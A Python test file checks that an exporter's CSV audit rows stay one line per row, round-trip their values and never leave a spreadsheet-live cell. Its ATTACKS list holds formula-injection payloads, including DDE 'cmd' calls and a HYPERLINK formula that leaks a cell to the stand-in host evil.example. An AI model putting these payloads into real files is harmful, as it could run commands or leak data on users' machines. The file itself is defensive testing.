"""Rows of the audit file: nothing runs, nothing breaks, everything comes back (docs/reliability.md, row 21)."""

import csv
import io
import json
import re
from dataclasses import replace

import numpy as np
import pytest
from hypothesis import given
from hypothesis import strategies as st

from detectors.streams import STREAMS
from detectors.types import Key
from exporter.pipeline.evidence import told
from exporter.sinks.audit_rows import COLUMNS, HEADER, AuditRowFormatter, _listed, streams_of_cell
from tests.support.streams import streams
from tests.support.verdicts import key, verdict

ATTACKS = [
    "=cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "x\r\n=1+1",
    'x";=1+1;"',
    "x,=1+1",
    "x;=1+1",
    "x|=1+1",
    "'=1+1",
    " =1+1",
    "＝1+1",  # noqa: RUF001 - full width, on purpose
    "\ufeff=1+1",
    '=HYPERLINK("http://evil.example?leak="&A1)',
    "a\0b",
    "\u2028=1",
    "\u202etxt.exe",
    "\udc80",
    "\\u003d1",
    "",
    "ünï ✓ 😀",
]
text = st.text(st.characters(exclude_categories=("Cs",)), max_size=12)
nasty = st.lists(st.sampled_from([*";=,\"'+-@|\t\r\n\0\\ ", "x", "=1+1", "\u2028"]), max_size=8).map("".join)
labels = st.dictionaries(text | nasty, text | nasty | st.sampled_from(ATTACKS), max_size=4)


def rows(*entities: Key, **options: object) -> list[bytes]:
    return AuditRowFormatter(all_samples=True).of(verdict(entities, **options))  # type: ignore[arg-type]


def read(written: list[bytes]) -> list[dict[str, str]]:
    with io.TextIOWrapper(io.BytesIO(HEADER + b"".join(written)), encoding="utf-8", newline="") as file:
        return list(csv.DictReader(file, strict=True))


def decode(cell: str) -> str:
    """Return the text that was written to a text column."""
    return str(json.loads(f'"{cell}"'))


def live_cells(written: list[bytes]) -> list[str]:
    """Return what a spreadsheet would run, whichever way it splits lines and cells, heeding quotes or not."""
    content = b"".join(written).decode()
    cells = {cell for line in content.splitlines() for cell in re.split(r"[,;|\t]", line)}
    for delimiter in ",;\t":
        cells |= {cell for row in csv.reader(content.splitlines(), delimiter=delimiter) for cell in row}
    cells = {cell.lstrip(" \"'") for cell in cells}
    return [cell for cell in cells if cell[:1] in {*"=+-@\t\r＝＋－＠"} - {""} and not is_number(cell)]  # noqa: RUF001


def is_number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True


@given(st.lists(labels, min_size=1, max_size=3), text | nasty)
def test_any_label_comes_back_from_a_row_that_is_one_line(given_labels: list[dict[str, str]], job: str) -> None:
    """Row 21."""
    written = rows(*(key(**each) for each in given_labels), job=job)
    assert all(len(row.decode().splitlines()) == 1 and row.endswith(b"\n") for row in written)
    assert not any(byte < 0x20 and byte != 0x0A for byte in b"".join(written))
    found = read(written)
    assert [json.loads(row["labels"]) for row in found] == given_labels
    assert {decode(row["job"]) for row in found} == {job}


@given(labels, text | nasty)
def test_no_cell_is_live(given_labels: dict[str, str], job: str) -> None:
    """Row 21."""
    assert live_cells(rows(key(**given_labels), job=job)) == []


@pytest.mark.parametrize("attack", ATTACKS)
def test_a_known_attack_stays_dead_and_comes_back(attack: str) -> None:
    """Row 21."""
    odd = replace(verdict((key(pod=attack),), job=attack), detector=attack, model_version=attack, config_hash=attack)
    written = AuditRowFormatter(all_samples=True).of(odd)
    assert live_cells(written) == []
    (row,) = read(written)
    assert json.loads(row["labels"]) == {"pod": attack}
    assert {decode(row[name]) for name in ("job", "detector", "model_version", "config_hash")} == {attack}


def test_the_check_for_live_cells_sees_them() -> None:
    found = live_cells([b'a,"x;=1+1",-1.5\n', b"b,=2\n", b'c,"@z"\n'])
    assert {cell[:2] for cell in found} == {"=1", "=2", "@z"}


@given(st.floats(allow_infinity=False))
def test_numbers_stay_numbers_to_the_last_digit(number: float) -> None:
    """Row 21: a leading minus is not quoted; NaN is an empty cell."""
    (row,) = read(rows(key(a="b"), values=[[number]], lower=[[-1.5]]))
    assert row["value"] == ("" if np.isnan(number) else repr(number))
    assert row["lower"] == "-1.5"


def test_a_row_reads_as_documented() -> None:
    judged = replace(
        verdict((key(instance="a:9100", job="node"),), job="node-cpu", score=[2.5], flag=[True], lower=[[np.nan]]),
        time=1767607200.25,
        model_version="000003-20260105T100000Z",
        config_hash="0123abcd",
        streams=streams([0], size={"value now": -6.25, "10-minute mean": -4.125}, period={"10-minute mean": 604_800.0}),
    )
    (row,) = AuditRowFormatter(all_samples=False).of(judged)
    assert HEADER.decode() == ",".join(COLUMNS) + "\n"
    assert row.decode() == (
        '2026-01-05T10:00:00.250Z,node-cpu,"{""instance"": ""a:9100"", ""job"": ""node""}",value,'
        "1.5,1.5,,1.5,1.5,2.5,1,robust,000003-20260105T100000Z,0123abcd,"
        '"10-minute mean",-4.12,605000.0,'
        '"{""10-minute mean"": [4.12, ""below"", 605000.0, """"], ""value now"": [6.25, ""below"", null, """"]}",,,,\n'
    )


def test_flagged_entities_and_changed_flags_are_written_and_nothing_else() -> None:
    keys = tuple(key(pod=str(n)) for n in range(5))
    options = {"flag": [0, 1, 0, 1, 0], "changed": [0, 1, 1, 0, 0], "score": [0.1, 2, 0.5, 3, np.nan]}
    pods = [
        json.loads(row["labels"])["pod"]
        for row in read(AuditRowFormatter(all_samples=False).of(verdict(keys, **options)))
    ]
    assert pods == ["1", "2", "3"]
    pods = [
        json.loads(row["labels"])["pod"]
        for row in read(AuditRowFormatter(all_samples=True).of(verdict(keys, **options)))
    ]
    assert pods == ["0", "1", "2", "3"], "an entity without a verdict has no row"


def test_each_channel_of_an_entity_has_its_row() -> None:
    keys = (key(pod="a"), key(pod="b"))
    found = read(rows(*keys, channels=("p99", "rps"), values=[[1, 2], [3, 4]], score=[5, 6]))
    assert [(row["channel"], row["value"], row["score"]) for row in found] == [
        ("p99", "1.0", "5.0"), ("rps", "2.0", "5.0"), ("p99", "3.0", "6.0"), ("rps", "4.0", "6.0"),
    ]  # fmt: skip


def test_labels_follow_entities_that_come_and_go() -> None:
    writer = AuditRowFormatter(all_samples=True)
    for keys in ((key(pod="a"), key(pod="b")), (key(pod="b"),), (key(pod="b"),), (key(pod="c"), key(pod="a"))):
        found = read(writer.of(verdict(keys)))
        assert [json.loads(row["labels"]) for row in found] == [dict(each) for each in keys]


_NUMBERS = st.one_of(st.floats(width=32), st.sampled_from([np.nan, np.inf, -np.inf, 0.0, -0.0, 99.95, -1e-7]))


@given(st.lists(st.tuples(_NUMBERS, _NUMBERS), min_size=len(STREAMS), max_size=len(STREAMS)))
def test_evidence_without_peers_is_written_as_that_with_peers_is(
    numbers: list[tuple[float, float]],
) -> None:
    """Two ways to the same cells: the short one is for storms of incidents."""
    size, period = (dict(zip(STREAMS, each, strict=True)) for each in zip(*numbers, strict=True))
    found = streams([0], size, period)
    there = bool((found.period > 0).any() or not np.isnan(found.size).all())
    judged = replace(verdict((key(a="b"),), flag=[True]), streams=found if there else None)
    (row,) = read(AuditRowFormatter(all_samples=False).of(judged))
    expected = told(judged.streams, 0, judged.channels)
    cells = [] if not expected else [f'"{each.name}": {_listed(each, chr(34) * 2)}' for each in expected]
    assert row["streams"] == ("{" + ", ".join(cells) + "}" if cells else "")
    if expected:
        assert row["stream"] == expected[0].name
        assert [row["stream_size"], row["stream_period"]] == [
            "" if each is None else repr(each) for each in (expected[0].size, expected[0].every)
        ]
        assert streams_of_cell(row["streams"]) == expected
